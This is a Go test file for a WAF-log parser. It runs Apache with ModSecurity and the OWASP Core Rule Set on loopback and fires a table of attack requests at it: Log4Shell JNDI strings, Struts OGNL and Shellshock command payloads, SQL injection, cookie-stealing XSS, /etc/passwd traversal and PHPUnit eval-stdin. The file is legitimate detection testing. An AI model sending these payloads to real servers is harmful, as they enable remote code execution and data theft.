package edge_test

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sentinel-sca/sentinel/internal/edge"
)

var updateModSec = flag.Bool("update-modsec", false, "rewrite testdata/modsec from a live Apache with ModSecurity and the CRS")

// Debian's packages for the live test (see modsecPaths).
const modsecPackages = "apache2 libapache2-mod-security2 modsecurity-crs"

// modsecPaths are where Debian's packages put Apache, ModSecurity and the
// Core Rule Set.
var modsecPaths = struct {
	apache, modules, crsSetup, crsRules string
}{
	apache:   "/usr/sbin/apache2",
	modules:  "/usr/lib/apache2/modules",
	crsSetup: "/etc/modsecurity/crs/crs-setup.conf",
	crsRules: "/usr/share/modsecurity-crs/rules",
}

// attackRequest is one request fired at the WAF, and what the parsed log
// must say about it.
type attackRequest struct {
	name   string
	host   string // shop.example.com blocks (SecRuleEngine On); legacy.example.com only detects
	method string
	target string // written to the wire as is
	header map[string]string
	body   string
	// logged is false when CRS 3.3 lets the request through without any
	// rule matching, so that it is not in the audit log at all.
	logged bool
	// note replaces the README's explanation of an unlogged request.
	note string
	// want are checks on the observation.
	action     edge.Action
	ruleID     string
	attacks    []string
	signatures []string
	cves       []string
}

// The IP in the JNDI URLs is a documentation address (RFC 5737): nothing
// is ever contacted.
var attackRequests = []attackRequest{
	{name: "log4shell in a query argument and the user agent", method: "GET",
		target: "/api/v1/products?search=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2FExploit%7D",
		header: map[string]string{"User-Agent": "${jndi:ldap://198.51.100.7:1389/Exploit}"},
		logged: true, action: edge.ActionBlocked, ruleID: "932130", attacks: []string{"rce"}, signatures: []string{"log4shell"}},
	{name: "log4shell, obfuscated, in a header only", method: "GET", target: "/index.html",
		header: map[string]string{"X-Api-Version": "${${lower:j}${::-n}di:ldap://198.51.100.7:1389/a}"},
		logged: false},
	{name: "sql injection", method: "GET", target: "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
		logged: true, action: edge.ActionBlocked, ruleID: "942100", attacks: []string{"sqli"}},
	{name: "cross-site scripting", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
		logged: true, action: edge.ActionBlocked, attacks: []string{"xss"}},
	{name: "path traversal", method: "GET", target: "/download.php?file=../../../../etc/passwd",
		logged: true, action: edge.ActionBlocked, attacks: []string{"lfi"}},
	{name: "wordpress plugin probe by a scanner", method: "GET", target: "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
		header: map[string]string{"User-Agent": "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
		logged: true, action: edge.ActionBlocked, ruleID: "913100", attacks: []string{"scanner"}},
	{name: "spring4shell probe by a scanner", method: "GET",
		target: "/app/greeting?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
		header: map[string]string{"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
		logged: true, action: edge.ActionBlocked, ruleID: "913100", signatures: []string{"spring4shell"}},
	{name: "spring4shell without a scanner user agent", method: "POST", target: "/app/greeting",
		header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"},
		body:   "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
		logged: false},
	{name: "struts ognl content-type", method: "GET", target: "/struts2-showcase/index.action",
		header: map[string]string{"Content-Type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"},
		logged: true, action: edge.ActionBlocked, ruleID: "944100", attacks: []string{"protocol", "rce"}, signatures: []string{"struts-ognl", "struts-rest-xstream"}, cves: []string{"CVE-2017-9805"}},
	{name: "shellshock", method: "GET", target: "/cgi-bin/status",
		header: map[string]string{"User-Agent": `() { :; }; /bin/bash -c "cat /etc/passwd"`},
		logged: true, action: edge.ActionBlocked, ruleID: "932170", signatures: []string{"shellshock"}, cves: []string{"CVE-2014-6271"}},
	{name: "phpunit eval-stdin", method: "POST", target: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body: "<?php echo md5('sentinel'); ?>",
		logged: true, action: edge.ActionBlocked, ruleID: "933100", attacks: []string{"php"}, signatures: []string{"phpunit-eval-stdin"}},
	{name: "sql scanner user agent", method: "GET", target: "/index.html?id=1",
		header: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"},
		logged: true, action: edge.ActionBlocked, ruleID: "913100", attacks: []string{"scanner"}},
	{name: "sql injection on a detection-only site", host: "legacy.example.com", method: "GET",
		target: "/report.php?year=2024%27%20OR%20%271%27=%271",
		logged: true, action: edge.ActionDetected, attacks: []string{"sqli"}},
	{name: "path traversal in the path, refused by Apache", method: "GET", target: "/static/../../../../etc/passwd",
		logged: false, note: "logged for its status 400 alone, with no rule match: the reader skips it"},
}

// TestModSecLive runs Apache with ModSecurity and the OWASP CRS on a
// loopback port, fires the attack requests at it, and parses the audit
// log it wrote. It needs Debian's apache2, libapache2-mod-security2 and
// modsecurity-crs; without them it is skipped, except under CI=true.
// With -update-modsec it rewrites testdata/modsec from this run.
func TestModSecLive(t *testing.T) {
	for _, p := range []string{modsecPaths.apache, filepath.Join(modsecPaths.modules, "mod_security2.so"), modsecPaths.crsSetup, modsecPaths.crsRules} {
		if _, err := os.Stat(p); err != nil {
			if os.Getenv("CI") == "true" {
				t.Fatalf("%s is missing: install the Debian packages %s", p, modsecPackages)
			}
			t.Skipf("%s is missing: install the Debian packages %s to run this test", p, modsecPackages)
		}
	}
	if testing.Short() {
		t.Skip("starts Apache")
	}
	dir := t.TempDir()
	for _, d := range []string{filepath.Dir(dir), dir} {
		if err := os.Chmod(d, 0o755); err != nil { // Apache's workers may run as nobody
			t.Fatal(err)
		}
	}
	for _, d := range []string{"htdocs", "data", "tmp"} {
		if err := os.Mkdir(filepath.Join(dir, d), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(filepath.Join(dir, d), 0o777); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "htdocs", "index.html"), []byte("ok\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	port := freePort(t)
	logPath := filepath.Join(dir, "modsec_audit.log")
	conf := apacheConfig(dir, port, logPath)
	if err := os.WriteFile(filepath.Join(dir, "httpd.conf"), []byte(conf), 0o644); err != nil {
		t.Fatal(err)
	}

	cmd := exec.Command(modsecPaths.apache, "-f", filepath.Join(dir, "httpd.conf"), "-DFOREGROUND")
	var stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stderr, &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	stopped := false
	stop := func() {
		if stopped {
			return
		}
		stopped = true
		_ = cmd.Process.Signal(syscall.SIGTERM)
		done := make(chan struct{})
		go func() { _ = cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			_ = cmd.Process.Kill()
			<-done
		}
	}
	t.Cleanup(stop)
	waitListening(t, port, &stderr, filepath.Join(dir, "error.log"))

	client := &http.Client{Timeout: 10 * time.Second}
	for _, a := range attackRequests {
		status, err := fire(client, port, a)
		if err != nil {
			t.Fatalf("%s: %v", a.name, err)
		}
		t.Logf("%-50s -> %d", a.name, status)
	}
	want := 0
	for _, a := range attackRequests {
		if a.logged {
			want++
		}
	}
	// Entries are written when each transaction's logging phase ends;
	// give the workers a moment, then stop Apache so the log is complete.
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if n, _ := countLines(logPath); n >= want {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	stop()
	data, err := os.ReadFile(logPath)
	if err != nil {
		t.Fatal(err)
	}
	checkAuditLog(t, data)

	if *updateModSec {
		writeModSecTestdata(t, data)
	}
}

func apacheConfig(dir string, port int, logPath string) string {
	user := ""
	if os.Geteuid() == 0 {
		user = "User nobody\nGroup nogroup\n"
	}
	m := modsecPaths.modules
	return fmt.Sprintf(`# Apache with ModSecurity 2 and the OWASP CRS, on loopback only.
ServerRoot "/usr/lib/apache2"
ServerName localhost
Listen 127.0.0.1:%[2]d
PidFile %[1]s/httpd.pid
ErrorLog %[1]s/error.log
LogLevel warn
%[3]sLoadModule mpm_event_module %[4]s/mod_mpm_event.so
LoadModule authz_core_module %[4]s/mod_authz_core.so
LoadModule unique_id_module %[4]s/mod_unique_id.so
LoadModule security2_module %[4]s/mod_security2.so
DocumentRoot %[1]s/htdocs
<Directory %[1]s/htdocs>
  Require all granted
</Directory>

SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess Off
SecDataDir %[1]s/data
SecTmpDir %[1]s/tmp
SecAuditEngine RelevantOnly
SecAuditLogRelevantStatus "^(?:5|4(?!04))"
SecAuditLogType Serial
SecAuditLogFormat JSON
SecAuditLogParts ABFHZ
SecAuditLog %[5]s
Include %[6]s
Include %[7]s/*.conf

<VirtualHost 127.0.0.1:%[2]d>
  ServerName shop.example.com
</VirtualHost>
<VirtualHost 127.0.0.1:%[2]d>
  ServerName legacy.example.com
  SecRuleEngine DetectionOnly
</VirtualHost>
`, dir, port, user, m, logPath, modsecPaths.crsSetup, modsecPaths.crsRules)
}

func freePort(t *testing.T) int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

func waitListening(t *testing.T, port int, stderr *strings.Builder, errorLog string) {
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), 200*time.Millisecond)
		if err == nil {
			c.Close()
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	el, _ := os.ReadFile(errorLog)
	t.Fatalf("Apache did not start listening on %d:\n%s\n%s", port, stderr.String(), el)
}

// fire sends one request; the target goes on the wire unchanged (Opaque),
// so that "../" and raw characters reach the WAF as an attacker sends them.
func fire(c *http.Client, port int, a attackRequest) (int, error) {
	var body io.Reader
	if a.body != "" {
		body = strings.NewReader(a.body)
	}
	req, err := http.NewRequestWithContext(context.Background(), a.method, fmt.Sprintf("http://127.0.0.1:%d/", port), body)
	if err != nil {
		return 0, err
	}
	req.URL = &url.URL{Scheme: "http", Host: fmt.Sprintf("127.0.0.1:%d", port), Opaque: a.target}
	req.Host = a.host
	if req.Host == "" {
		req.Host = "shop.example.com"
	}
	req.Header.Set("User-Agent", "curl/7.88.1")
	req.Header.Set("Accept", "*/*")
	for k, v := range a.header {
		req.Header.Set(k, v)
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode, nil
}

func countLines(name string) (int, error) {
	b, err := os.ReadFile(name)
	return strings.Count(string(b), "\n"), err
}

// checkAuditLog parses an audit log made from attackRequests and checks
// every expectation. The log of a run and the committed testdata go
// through the same checks.
func checkAuditLog(t *testing.T, data []byte) {
	t.Helper()
	r := edge.NewModSecReader(strings.NewReader(string(data)))
	var got []edge.Observation
	for {
		o, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Errorf("reading the audit log: %v", err)
			continue
		}
		got = append(got, o)
	}
	crs4 := len(got) > 0 && strings.Contains(got[0].Producer, "OWASP_CRS/4")
	for _, a := range attackRequests {
		i := slices.IndexFunc(got, func(o edge.Observation) bool { return targetOf(o) == a.target })
		if !a.logged && !crs4 {
			if i >= 0 {
				t.Errorf("%s: in the log (rule %s), but CRS 3.3 lets it through", a.name, got[i].RuleID)
			}
			continue
		}
		if i < 0 {
			if a.logged {
				t.Errorf("%s: not in the audit log", a.name)
			}
			continue
		}
		o := got[i]
		host := a.host
		if host == "" {
			host = "shop.example.com"
		}
		if o.Host != host || o.Source != "127.0.0.1" || o.Method != a.method || o.Time.IsZero() || o.Status == 0 {
			t.Errorf("%s: host %q source %q method %q time %v status %d", a.name, o.Host, o.Source, o.Method, o.Time, o.Status)
		}
		if a.action != "" && o.Action != a.action {
			t.Errorf("%s: action %s, want %s", a.name, o.Action, a.action)
		}
		if a.ruleID != "" && o.RuleID != a.ruleID && !crs4 {
			t.Errorf("%s: rule %s (%s), want %s", a.name, o.RuleID, o.Message, a.ruleID)
		}
		for _, w := range a.attacks {
			if !slices.Contains(o.Attacks, w) {
				t.Errorf("%s: attacks %v, want %s among them", a.name, o.Attacks, w)
			}
		}
		for _, w := range a.signatures {
			if !slices.Contains(o.Signatures, w) {
				t.Errorf("%s: signatures %v, want %s among them", a.name, o.Signatures, w)
			}
		}
		for _, w := range a.cves {
			if !slices.Contains(o.CVEs, w) {
				t.Errorf("%s: CVEs %v, want %s among them", a.name, o.CVEs, w)
			}
		}
	}
	if r.NotAttacks == 0 {
		t.Error("the status-only entry (Apache's 400 for a path above the root) was not skipped as no attack")
	}
}

func targetOf(o edge.Observation) string {
	if o.Query != "" {
		return o.Path + "?" + o.Query
	}
	return o.Path
}

func writeModSecTestdata(t *testing.T, log []byte) {
	if err := os.MkdirAll("testdata/modsec", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile("testdata/modsec/audit.log", log, 0o644); err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	b.WriteString("# ModSecurity audit log made by TestModSecLive\n\n")
	b.WriteString("`audit.log` was written by a real Apache with ModSecurity 2 and the OWASP Core Rule Set\n")
	b.WriteString("(Apache-2.0), on a loopback port, for the requests below, by\n\n")
	b.WriteString("    go test ./internal/edge -run TestModSecLive -update-modsec\n\n")
	b.WriteString("with these Debian packages:\n\n")
	out, err := exec.Command("dpkg-query", "-W", "-f", "    ${Package} ${Version}\\n", "apache2", "libapache2-mod-security2", "modsecurity-crs").Output()
	if err == nil {
		b.Write(out)
	}
	b.WriteString("\nThe configuration is `apacheConfig` in modsec_live_test.go: `SecRuleEngine On` for\n")
	b.WriteString("shop.example.com and `DetectionOnly` for legacy.example.com, the CRS at its default\n")
	b.WriteString("paranoia level 1, `SecAuditEngine RelevantOnly`, `SecAuditLogFormat JSON`,\n")
	b.WriteString("`SecAuditLogParts ABFHZ`. Requests (Host shop.example.com unless said; the JNDI\n")
	b.WriteString("address is a documentation address, never contacted):\n\n")
	for _, a := range attackRequests {
		host := a.host
		if host == "" {
			host = "shop.example.com"
		}
		fmt.Fprintf(&b, "- %s: `%s %s` (Host %s)", a.name, a.method, a.target, host)
		for _, k := range sortedKeys(a.header) {
			fmt.Fprintf(&b, ", %s: `%s`", k, a.header[k])
		}
		if a.body != "" {
			fmt.Fprintf(&b, ", body `%s`", a.body)
		}
		switch {
		case a.note != "":
			b.WriteString(" (" + a.note + ")")
		case !a.logged:
			b.WriteString(" (no CRS 3.3 rule matches: not in the log)")
		}
		b.WriteString("\n")
	}
	if err := os.WriteFile("testdata/modsec/README.md", []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}

func sortedKeys(m map[string]string) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	slices.Sort(ks)
	return ks
}

// TestModSecTestdata checks the committed audit log the same way.
func TestModSecTestdata(t *testing.T) {
	data, err := os.ReadFile("testdata/modsec/audit.log")
	if err != nil {
		t.Fatal(err)
	}
	checkAuditLog(t, data)
}
